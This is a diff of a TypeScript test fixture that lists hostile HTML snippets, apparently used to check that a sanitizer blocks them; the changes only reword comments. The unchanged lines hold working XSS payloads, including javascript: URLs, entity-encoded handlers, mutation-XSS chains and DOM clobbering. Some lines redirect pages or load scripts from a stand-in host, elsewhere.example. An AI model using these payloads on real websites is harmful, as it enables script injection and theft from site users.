@@ -1,16 +1,16 @@
 /**
- * HTML that means harm. What runs adds its snippet's name to `__executed` of the top window; what does not run is
- * noticed by the requests it makes, or by what it takes the place of: the title, the base, names of the document.
+ * Hostile HTML. Executed code adds the name of its snippet to `__executed` of the top window. Other harm is detected by
+ * requests or by changes to the page: the title, the base, or names in the document.
  */
 export interface HostileSnippet {
   name: string;
   html: string;
 }
 
-/** A host that nobody has: any request to it has left the page. */
+/** A host that does not exist. Any request to it has left the page. */
 const ELSEWHERE = 'https://elsewhere.example';
 
-/** Holds single quotes only and no white space, so that it fits into any attribute, also one without quotes. */
+/** Contains no double quotes and no white space, so that it fits into any attribute, even an unquoted one. */
 const runFor = (name: string) => `(top.__executed??=[]).push('${name}')`;
 
 const inEntities = (code: string) => [...code].map((character) => `&#${character.codePointAt(0)};`).join('');
@@ -60,7 +60,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   'handler on a closing tag': (run) => `<p>a</p onclick="${run}"></br onclick="${run}">`,
   'handler with a form feed': (run) => `<img\fsrc=x\fonerror="${run}">`,
 
-  // Addresses that run
+  // URLs that execute code
   'javascript link': (run) => `<a href="javascript:${run}">a</a>`,
   'javascript link in capitals': (run) => `<a href="JaVaScRiPt:${run}">a</a>`,
   'javascript link, in entities': (run) => `<a href="${inEntities(`javascript:${run}`)}">a</a>`,
@@ -110,7 +110,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   'math annotation': (run) =>
     `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
 
-  // Markup that is read differently the second time
+  // Markup that is parsed differently the second time
   'mutation by math, table and style': (run) =>
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
   'mutation by form and mglyph': (run) =>
@@ -132,7 +132,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   'mutation by foster parents': (run) => `<table><p><a href="/x"><td><img src=x onerror="${run}"></a></table>`,
   'mutation by formatting': (run) => `<a><b><p></a><table><i></b><img src=x onerror="${run}"></i></table></p>`,
 
-  // Elements that read their content as text
+  // Elements whose content is text
   'plain text': (run) => `<plaintext><img src=x onerror="${run}">`,
   'plain text in svg': (run) => `<svg><plaintext></svg><img src=x onerror="${run}">`,
   xmp: (run) => `<xmp></xmp><img src=x onerror="${run}"><xmp><p title="</xmp><img src=x onerror=${run}>">`,
@@ -160,7 +160,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   embed: (run) => `<embed src="javascript:${run}" onload="${run}"><embed src="${ELSEWHERE}/e">`,
   frameset: (run) => `</body><frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
 
-  // What changes the page, or tells another site of it
+  // Changes to the page, and requests to other sites
   base: () => `<base href="${ELSEWHERE}/" target="_blank">`,
   'meta refresh': () => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refreshed">`,
   'meta policy': () =>
@@ -182,7 +182,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   'import map': () =>
     `<script type="importmap">{"imports":{"/a.js":"${ELSEWHERE}/a.js"}}</script><script type="speculationrules">{"prerender":[{"urls":["${ELSEWHERE}/"]}]}</script>`,
 
-  // Names that get in the way of scripts
+  // Names that shadow properties used by scripts
   'name of a global': () => `<a id="__settings"></a><a id="__settings" name="url" href="${ELSEWHERE}/">a</a>`,
   'name of a document method': () =>
     '<img name="getElementById"><form name="querySelector"></form><embed name="cookie">',
@@ -191,7 +191,7 @@ const WRITTEN: Record<string, (run: string) => string> = {
   'form fields as properties': (run) =>
     `<form onclick="${run}"><input name="attributes"><input name="children"><input name="parentNode"></form>`,
 
-  // What the site's own rewriting writes anew
+  // Text that the site's transformations rewrite
   'words that become a label': (run) =>
     `<table><caption>"&gt;&lt;img src=x onerror=${run}&gt;</caption><tr><td>a</td></tr></table>`,
   'words that become an anchor': (run) =>
